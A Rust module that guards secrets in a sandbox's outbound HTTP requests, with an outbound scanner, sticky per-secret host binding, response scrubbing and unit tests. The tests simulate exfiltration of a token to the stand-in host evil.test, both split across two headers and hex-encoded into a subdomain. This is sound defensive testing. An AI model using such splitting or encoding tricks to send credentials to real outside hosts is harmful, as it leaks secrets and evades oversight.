//! What may leave and what may come back, as far as secrets go:
//!
//! - **Outbound scan**: a guest-written request (method, URL, header names
//!   and values, body, before placeholder substitution) that carries a
//!   secret in any form the scanner knows may go only where that secret is
//!   bound.
//! - **Sticky binding**: once a secret has been injected into a request of
//!   this call, carried in one, or revealed to the guest, every later
//!   request of the call may go only to destinations *that secret* is bound
//!   to (all of them, for several secrets). This is what holds when a bound
//!   server hands the secret back in a form no scanner recognises (encrypted,
//!   compressed, split across a header and the body): whatever the guest
//!   learned, it can send only back where the secret was allowed to go.
//! - **Response scrubbing**: secrets in a response's header names, header
//!   values (alone or split across adjacent headers) and body become
//!   placeholders before the guest reads them.
use super::scanner::{Hit, Marker, SecretScanner};
use super::secrets::Secret;
use http::header::{HeaderMap, HeaderName, HeaderValue};
use std::sync::{Arc, Mutex};

pub struct SecretGuard {
    pub scanner: Arc<SecretScanner>,
    /// Names of the secrets this call has been exposed to, in order.
    exposed: Mutex<Vec<String>>,
}

/// A request as the guest wrote it (placeholders not yet substituted).
#[derive(Clone, Copy)]
pub struct Outgoing<'a> {
    pub method: &'a str,
    pub url: &'a str,
    pub headers: &'a HeaderMap,
    pub body: &'a [u8],
}

/// A response with every secret the scanner knows replaced by placeholders.
pub struct ScrubbedResponse {
    pub headers: HeaderMap,
    pub body: Vec<u8>,
    /// Whether a secret was replaced in the body.
    pub body_redacted: bool,
    /// Headers dropped because their name carried a secret (a placeholder is
    /// not a valid header name): how many, and which secrets.
    pub dropped_headers: usize,
    pub dropped_for: Vec<String>,
}

impl SecretGuard {
    pub fn new(scanner: Arc<SecretScanner>) -> SecretGuard {
        SecretGuard {
            scanner,
            exposed: Mutex::new(Vec::new()),
        }
    }

    /// From now on this call may send only where secret `name` is bound.
    pub fn expose(&self, name: &str) {
        let mut exposed = self.exposed.lock().unwrap_or_else(|p| p.into_inner());
        if !exposed.iter().any(|n| n == name) {
            exposed.push(name.to_string());
        }
    }

    pub fn exposed(&self) -> Vec<String> {
        self.exposed
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .clone()
    }

    /// Sticky binding: `Err(reason)` when a secret this call was exposed to
    /// is not bound to `host:port`.
    pub fn check_sticky(&self, secrets: &[Secret], host: &str, port: u16) -> Result<(), String> {
        for name in self.exposed() {
            let bound = secrets
                .iter()
                .find(|s| s.name == name)
                .is_some_and(|s| s.bound_to(host, port));
            if !bound {
                return Err(format!(
                    "this call has used secret `{name}`, so its later requests may go only where \
                     that secret is bound, and {host}:{port} is not (sticky secret binding)"
                ));
            }
        }
        Ok(())
    }

    /// Outbound scan of a guest-written request: `Ok(indices)` of the
    /// secrets it carries (all bound to `host:port`), or `Err(reason)`
    /// naming the first that is not, where, and in what form (never the
    /// value).
    pub fn check_outbound(
        &self,
        secrets: &[Secret],
        request: &Outgoing<'_>,
        host: &str,
        port: u16,
    ) -> Result<Vec<usize>, String> {
        let Outgoing {
            method,
            url,
            headers,
            body,
        } = *request;
        if self.scanner.is_empty() {
            return Ok(Vec::new());
        }
        // Method, URL, then each header's name and value, then the body:
        // scanned one by one and as one text (a secret split across two
        // adjacent parts is found too). Values alone again, in order, so a
        // split between two values is not hidden by the name between them.
        let mut parts: Vec<(&str, &[u8])> =
            vec![("method", method.as_bytes()), ("URL", url.as_bytes())];
        for (k, v) in headers {
            parts.push(("a header name", k.as_str().as_bytes()));
            parts.push(("a header value", v.as_bytes()));
        }
        parts.push(("the body", body));
        let segments: Vec<&[u8]> = parts.iter().map(|(_, b)| *b).collect();
        let values: Vec<&[u8]> = headers.values().map(|v| v.as_bytes()).collect();
        let mut found: Vec<(usize, &str, Hit)> = Vec::new();
        for (i, hits) in self.scanner.find_across(&segments).into_iter().enumerate() {
            found.extend(hits.into_iter().map(|h| (h.secret, parts[i].0, h)));
        }
        for hits in self.scanner.find_across(&values) {
            found.extend(hits.into_iter().map(|h| (h.secret, "a header value", h)));
        }
        let mut carried = Vec::new();
        for (secret, place, hit) in found {
            let Some(s) = secrets.get(secret) else {
                continue;
            };
            if !s.bound_to(host, port) {
                return Err(format!(
                    "the request carries secret `{}` ({}, in {place}), which is not bound to \
                     {host}:{port}",
                    s.name,
                    hit.form.describe()
                ));
            }
            if !carried.contains(&secret) {
                carried.push(secret);
            }
        }
        Ok(carried)
    }

    /// Replace every secret in a response by its placeholder.
    pub fn scrub_response(&self, headers: &HeaderMap, body: Vec<u8>) -> ScrubbedResponse {
        let scanner = &self.scanner;
        // Copied only when something was redacted: a large body is not
        // duplicated for nothing.
        let redacted = match scanner.redact(&body, Marker::Placeholder) {
            std::borrow::Cow::Borrowed(_) => None,
            std::borrow::Cow::Owned(clean) => Some(clean),
        };
        let body_redacted = redacted.is_some();
        let body = redacted.unwrap_or(body);
        if scanner.is_empty() {
            return ScrubbedResponse {
                headers: headers.clone(),
                body,
                body_redacted,
                dropped_headers: 0,
                dropped_for: Vec::new(),
            };
        }
        let entries: Vec<(&HeaderName, &HeaderValue)> = headers.iter().collect();
        let n = entries.len();
        // Segment 2i is header i's name, 2i + 1 its value.
        let mut segments: Vec<&[u8]> = Vec::with_capacity(2 * n);
        for (k, v) in &entries {
            segments.push(k.as_str().as_bytes());
            segments.push(v.as_bytes());
        }
        let mut hits = scanner.find_across(&segments);
        // Values alone, then names alone, in order: a split across two
        // values (or two names) is found although a name (value) separates
        // them in the interleaved text.
        let values: Vec<&[u8]> = entries.iter().map(|(_, v)| v.as_bytes()).collect();
        for (i, h) in scanner.find_across(&values).into_iter().enumerate() {
            hits[2 * i + 1].extend(h);
        }
        let names: Vec<&[u8]> = entries.iter().map(|(k, _)| k.as_str().as_bytes()).collect();
        for (i, h) in scanner.find_across(&names).into_iter().enumerate() {
            hits[2 * i].extend(h);
        }
        let mut clean = HeaderMap::with_capacity(n);
        let mut dropped_headers = 0;
        let mut dropped_for = Vec::new();
        for (i, (k, v)) in entries.iter().enumerate() {
            if !hits[2 * i].is_empty() {
                dropped_headers += 1;
                for h in &hits[2 * i] {
                    let name = scanner.name(h.secret).to_string();
                    if !dropped_for.contains(&name) {
                        dropped_for.push(name);
                    }
                }
                continue;
            }
            let value = scanner.apply(v.as_bytes(), &hits[2 * i + 1], Marker::Placeholder);
            match HeaderValue::from_bytes(&value) {
                Ok(value) => {
                    clean.append((*k).clone(), value);
                }
                Err(_) => dropped_headers += 1,
            }
        }
        ScrubbedResponse {
            headers: clean,
            body,
            body_redacted,
            dropped_headers,
            dropped_for,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const VALUE: &str = "Tok3n-Value-0123";

    fn secrets() -> Vec<Secret> {
        vec![
            Secret {
                name: "api-token".into(),
                value: VALUE.into(),
                destinations: vec!["panel.test:443".into()],
            },
            Secret {
                name: "other".into(),
                value: "second-secret-value".into(),
                destinations: vec!["panel.test:443".into(), "other.test:443".into()],
            },
        ]
    }

    fn guard() -> SecretGuard {
        SecretGuard::new(Arc::new(SecretScanner::new(&secrets())))
    }

    #[test]
    fn sticky_binding_is_the_intersection_of_exposed_secrets() {
        let g = guard();
        let s = secrets();
        assert!(g.check_sticky(&s, "anything.test", 443).is_ok());
        g.expose("other");
        assert!(g.check_sticky(&s, "other.test", 443).is_ok());
        g.expose("api-token");
        let why = g.check_sticky(&s, "other.test", 443).unwrap_err();
        assert!(why.contains("secret `api-token`"), "{why}");
        assert!(g.check_sticky(&s, "panel.test", 443).is_ok());
    }

    fn get<'a>(url: &'a str, headers: &'a HeaderMap) -> Outgoing<'a> {
        Outgoing {
            method: "GET",
            url,
            headers,
            body: b"",
        }
    }

    #[test]
    fn outbound_scan_refuses_carried_secrets_toward_unbound_hosts() {
        let g = guard();
        let s = secrets();
        let mut headers = HeaderMap::new();
        headers.insert("x-a", HeaderValue::from_static("Tok3n-V"));
        headers.insert("x-b", HeaderValue::from_static("alue-0123"));
        let empty = HeaderMap::new();
        let why = g
            .check_outbound(&s, &get("http://evil.test/", &headers), "evil.test", 80)
            .unwrap_err();
        assert!(why.contains("`api-token`") && !why.contains(VALUE), "{why}");
        assert!(why.contains("as is, in a header value"), "{why}");
        let hex: String = VALUE.bytes().map(|b| format!("{b:02x}")).collect();
        let url = format!("http://{hex}.evil.test/");
        let why = g
            .check_outbound(&s, &get(&url, &empty), "evil.test", 80)
            .unwrap_err();
        assert!(why.contains("hex-encoded, in URL"), "{why}");
        let post = Outgoing {
            method: "POST",
            url: "https://panel.test/",
            headers: &empty,
            body: VALUE.as_bytes(),
        };
        assert_eq!(g.check_outbound(&s, &post, "panel.test", 443), Ok(vec![0]));
    }

    #[test]
    fn responses_lose_secrets_in_names_values_splits_and_body() {
        let g = guard();
        let mut headers = HeaderMap::new();
        headers.insert("x-first", HeaderValue::from_static("Tok3n-"));
        headers.insert("x-second", HeaderValue::from_static("Value-0123"));
        headers.insert(
            HeaderName::from_bytes(VALUE.to_ascii_lowercase().as_bytes()).unwrap(),
            HeaderValue::from_static("1"),
        );
        headers.insert("x-keep", HeaderValue::from_static("fine"));
        let body = format!("echo {VALUE}");
        let out = g.scrub_response(&headers, body.as_bytes().to_vec());
        assert_eq!(out.body, b"echo {{secret:api-token}}");
        assert_eq!(out.headers["x-first"], "{{secret:api-token}}");
        assert_eq!(out.headers["x-second"], "{{secret:api-token}}");
        assert_eq!(out.headers["x-keep"], "fine");
        assert_eq!(out.dropped_headers, 1);
        assert_eq!(out.dropped_for, vec!["api-token".to_string()]);
        assert_eq!(out.headers.len(), 3);
    }
}
